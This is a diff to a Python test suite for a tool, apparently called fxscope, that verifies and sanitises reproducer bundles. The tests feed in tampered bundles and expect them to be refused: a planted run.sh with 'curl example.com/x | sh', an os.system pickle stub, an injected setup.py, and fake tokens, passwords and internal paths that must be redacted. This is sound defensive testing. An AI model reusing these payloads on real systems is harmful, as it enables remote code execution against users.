@@ -44,6 +44,27 @@ def repack(path, change):
     return altered
 
 
+PRIVATE = ["file:///home/ada/secret/net.py", "http://gpu7.research.acme.com:8080/run?id=3", "ada@build-01:/srv", "ada.lovelace@acme.com", "10.1.2.3",
+           "\\\\\\\\fileserver\\\\research\\\\net.py", "~ada/nets/net.py", "/home/ada/my secret models/net.py", "/home/ada/Geheime Modelle/größe.py",
+           "C:\\\\Users\\\\Ada Lovelace\\\\net.py", "hf_AbCdEfGhIjKlMnOpQrStUvWxYz012345", "Authorization: Bearer abc.def-123_456", "api_key='letmein'"]
+TRACES = ["fileserver", "research", "acme", "build-01", "lovelace", "Lovelace", "10.1.2.3", "secret", "Geheime", "~ada", "/home", "Users", "hf_AbC", "abc.def",
+          "letmein", "8080", "gpu7"]
+
+
+def with_metadata(source, path, change):
+    """A copy of a program, each node of which went through `change`, which may edit it."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
+        for info in old.infolist():
+            content = old.read(info)
+            if info.filename.endswith("models/model.json"):
+                model = json.loads(content)
+                for node in model["graph_module"]["graph"]["nodes"]:
+                    change(node)
+                content = json.dumps(model).encode()
+            new.writestr(info, content)
+    return path
+
+
 @needs_engine
 class Bundle(CliTest):
     def bundle(self, file=ATTENTION, *options, to="tosa", code=0, **kw):
@@ -194,6 +215,11 @@ class Bundle(CliTest):
         self.assertEqual(self.run_cli("bundle", ATTENTION, "--to", "tosa", "-o", out, engine="/no/such")[0], 4)
         self.assertFalse(out.exists())
 
+    def altered(self, path, what, change):
+        """A bundle whose checksums are in order, and whose content is not."""
+        bad = repack(path, change)
+        self.refuses("replay", bad, code=3, message=f"{bad}: the bundle was altered: {what}; nothing in it is vouched for")
+
     def test_altered_bundles_are_refused(self):
         path = self.bundle(ATTENTION, "--reduce")
         def claims_another(manifest, files):
@@ -202,16 +228,145 @@ class Bundle(CliTest):
         status, out, err = self.run_cli("replay", altered)
         self.assertEqual((status, out), (3, ""))
         self.assertTrue(err.startswith(f"fxscope-cli: {altered}: the bundle was altered: it claims 'illegal-op of torch.aten.cumsum "), err)
-        def other_input(manifest, files):
-            files["input.mlir"] += b"// more\n"
-        self.refuses("replay", repack(path, other_input), code=3, message=f"{altered}: the bundle was altered: its input.mlir is not what its raw.mlir gives")
         def other_program(manifest, files):
             files["program.pt2"] = b"PK"
         self.assertEqual(self.run_cli("replay", repack(path, other_program))[0], 3)
-        def no_module(manifest, files):
-            files["raw.mlir"] = b"/etc/passwd"
-        self.assertEqual(self.run_cli("replay", repack(path, no_module))[0], 3)
         self.assertEqual(self.run_cli("replay", repack(path, lambda m, f: None))[0], 0)
+
+    def test_each_file_is_held_to_what_fxscope_writes(self):
+        path = self.bundle(ATTENTION, "--reduce")
+        for name in FILES[1:]:
+            if name == "program.pt2":
+                continue
+            with self.subTest(name):
+                self.altered(path, ("raw.mlir is not what fxscope writes for its program" if name == "raw.mlir" else
+                                    f"{name} is not what fxscope writes for its manifest and program"),
+                             lambda m, f: f.update({name: f[name] + b"\n// more\n"}))
+        def runs_anything(manifest, files):
+            files["run.sh"] = b"#!/bin/sh\necho fails in the same way\ncurl example.com/x | sh\n"
+            files["README.md"] = b"# Reproducer: run ./run.sh\n"
+            files["commands.txt"] = b"curl example.com/x | sh\n"
+        self.altered(path, "README.md, run.sh, commands.txt are not what fxscope writes for its manifest and program", runs_anything)
+        self.altered(path, "diagnostics.json is not what fxscope writes for its manifest and program", lambda m, f: f.pop("diagnostics.json"))
+        self.altered(path, "manifest.json, README.md, issue.md are not what fxscope writes for its manifest and program", lambda m, f: m.update(call_nodes=3))
+
+    def test_the_program_is_held_to_what_fxscope_writes(self):
+        path = self.bundle(ATTENTION, "--reduce")
+        def with_a_pickle(manifest, files):
+            out = io.BytesIO()
+            with zipfile.ZipFile(io.BytesIO(files["program.pt2"])) as old, zipfile.ZipFile(out, "w") as new:
+                for info in old.infolist():
+                    new.writestr(info.filename, b"\x80\x02cos\nsystem\n." if info.filename.endswith("sample_inputs/model.pt") else old.read(info))
+            files["program.pt2"] = out.getvalue()
+        self.altered(path, "program.pt2 is not what fxscope writes for its manifest and program", with_a_pickle)
+
+    def test_no_other_file_is_in_a_bundle(self):
+        path = self.bundle(ATTENTION, "--reduce")
+        bad = repack(path, lambda m, f: f.update({"setup.py": b"import os\n"}))
+        self.refuses("replay", bad, code=3, message=f"{bad}: the bundle was altered: fxscope writes no 'setup.py'")
+
+    def test_of_another_version_only_the_failure_is_vouched_for(self):
+        path = self.bundle(ATTENTION, "--reduce")
+        def older(manifest, files):
+            manifest["tool"] = "0.0.9"
+            files["run.sh"] = b"#!/bin/sh\n"
+        status, out, err = self.run_cli("replay", repack(path, older))
+        self.assertEqual((status, err), (1, ""), out)
+        self.assertIn("not checked, for fxscope 0.0.9 wrote them, this is ", out)
+        self.assertTrue(out.endswith("\nfails in the same way; only that is vouched for: its files were not checked, run.sh neither\n"), out)
+        value = self.check_json("replay", self.run_cli("replay", repack(path, older), "--json")[1])
+        self.assertEqual((value["outcome"], value["vouched"], value["files"]["checked"]), ("same-failure", False, []))
+
+    def test_blanks_are_no_module(self):
+        path = self.bundle(ATTENTION, "--reduce")
+        for blank in (b"   \n\n", b"", b"module {\n}\n", b"// func.func @main\n"):
+            self.altered(path, "raw.mlir is not what fxscope writes for its program", lambda m, f: f.update({"raw.mlir": blank}))
+            self.altered(path, "raw.mlir holds no function 'main'", lambda m, f: (m.update(tool="0.0.9"), f.update({"raw.mlir": blank})))
+
+    def test_a_bundle_may_lower_limits_and_never_raise_them(self):
+        path = self.bundle(ATTENTION, "--reduce")
+        seen = self.work / "limits"
+        engine = self.fake_engine(f"ulimit -v >> {seen}; cat")
+        def memory(asked, *options):
+            seen.unlink(missing_ok=True)
+            bad = repack(path, lambda m, f: m["options"].update(memory_bytes=asked, timeout_ms=3_600_000))
+            said = self.run_cli("replay", bad, "--engine", engine, *options)
+            return max(int(line) for line in seen.read_text().split()) >> 10, said
+        # What is not asked for again in run.sh is another file.
+        self.assertEqual(memory(64 << 30)[1][0], 3)
+        self.assertEqual(memory(64 << 30)[0], 8192)
+        self.assertEqual(memory(64 << 30, "--memory", "2G")[0], 2048)
+        self.assertEqual(memory(1 << 30)[0], 1024)
+        status, out, _ = self.run_cli("replay", path, "--timeout", "60", "--memory", "4G")
+        self.assertEqual(status, 0)
+        self.assertIn("\nlimits: it asks for 120 s a stage, and gets 60 s (--timeout); it asks for 8192 MiB, and gets 4096 MiB (--memory)\n", out)
+
+    def test_what_only_its_own_engine_can_say_is_named(self):
+        path = self.bundle(ATTENTION, "--reduce")
+        self.assertIn("\nfiles: 14 of 14 are what fxscope writes for it\n", self.check("replay", path))
+        out = self.check("replay", path, "--engine", self.wrapped_engine())
+        self.assertIn("\nnot checked, for they hold what the engine it was made with did: input.mlir failure.mlir engine.txt diagnostics.txt "
+                      "diagnostics.json\n", out)
+
+    def private_program(self):
+        """A program whose metadata, names and text tell of people and machines."""
+        def change(node):
+            node["metadata"]["stack_trace"] = "\n".join(f'File "/home/ada/secret/net.py", line 3, in forward\n    load({p})' for p in PRIVATE)
+            node["metadata"]["custom"] = json.dumps({"token": PRIVATE[10], "by": "ada", "note": "secret"})
+            node["metadata"]["acme_owner"] = "gpu7"
+        return with_metadata(ATTENTION, self.work / "net.pt2", change)
+
+    def test_nothing_private_is_handed_on_and_what_was_taken_out_is_said(self):
+        for options in ((), ("--reduce",)):
+            path = self.bundle(self.private_program(), *options)
+            if not options:  # what is reduced has no metadata to lose
+                self.assertRegex(self.said, r"\nleft out, for it looked private [^\n]*\n  [0-9]+ paths under a home folder \(now net.py\)\n")
+                self.assertRegex(self.said, r"\n  [0-9]+ keys or passwords \(now redacted_token_1\)\n")
+                self.assertRegex(self.said, r"\n  metadata 'acme_owner' of [0-9]+ operations?\n  metadata 'custom' of [0-9]+ operations?\n$")
+            everything = dict(members(path))
+            for name, content in list(everything.items()):
+                if name.endswith(".pt2"):
+                    everything.update({f"{name}/{n}": c for n, c in members(io.BytesIO(content)).items()})
+            for name, content in everything.items():
+                self.assertEqual([trace for trace in TRACES if trace.encode() in content], [], name)
+            self.assertEqual(b"redacted_token_1" in b"".join(everything.values()), not options)
+            self.check("replay", path)
+
+    def test_reports_name_files_by_what_tells_nothing_of_the_machine(self):
+        program = self.private_program()
+        for form in ("json", "sarif", "html", "markdown", "text"):
+            asked = ("diagnose", program, "--to", "tosa", "--no-experiments", "--format", form)
+            out = self.run_cli(*asked)[1]
+            for private in (str(self.work), os.path.dirname(ENGINE), "/home/ada"):
+                self.assertEqual([line for line in out.splitlines() if private in line and "load(" not in line], [], form)
+        out = self.run_cli("diagnose", program, "--to", "tosa", "--no-experiments", "--json", "--full-paths")[1]
+        self.assertEqual((json.loads(out)["engine"]["path"], json.loads(out)["input"]), (ENGINE, str(program)))
+
+    def test_names_of_this_machine_go_too(self):
+        import pwd
+        import socket
+        user, host = pwd.getpwuid(os.getuid()).pw_name, socket.gethostname()
+        def change(node):
+            node["metadata"]["stack_trace"] = f'File "{self.work}x/net.py", line 3, in forward\n    cache = "{self.work}/nets/a b/net.py" {user}! {host}!'
+        path = self.bundle(with_metadata(ATTENTION, self.work / "net.pt2", change))
+        text = next(c for n, c in members(io.BytesIO(next(c for n, c in members(path).items() if n.endswith(".pt2")))).items() if n.endswith("model.json")).decode()
+        self.assertTrue('cache = \\"net.py\\"' in text)
+        self.assertFalse(str(self.work) in text)
+        if user not in ("root", "user", "test", "runner"):
+            self.assertFalse(user + "!" in text)
+
+    def test_a_key_in_a_name_becomes_the_same_word_everywhere(self):
+        key = "hf_AbCdEfGhIjKlMnOpQrSt0123"
+        text = lambda content: content.replace(b".attention", b"." + key.encode()).replace(b"_attention_", b"_" + key.encode() + b"_")
+        source = self.work / "net.pt2"
+        with zipfile.ZipFile(ATTENTION) as old, zipfile.ZipFile(source, "w") as new:
+            for info in old.infolist():
+                content = old.read(info)
+                new.writestr(info, text(content) if info.filename.endswith(".json") else content)
+        path = self.bundle(source)
+        for name, content in members(path).items():
+            self.assertFalse(key.encode() in content, name)
+        self.check("replay", path)
 
     def test_hostile_archives_are_refused_and_leave_nothing(self):
         path = self.bundle(ATTENTION, "--reduce")
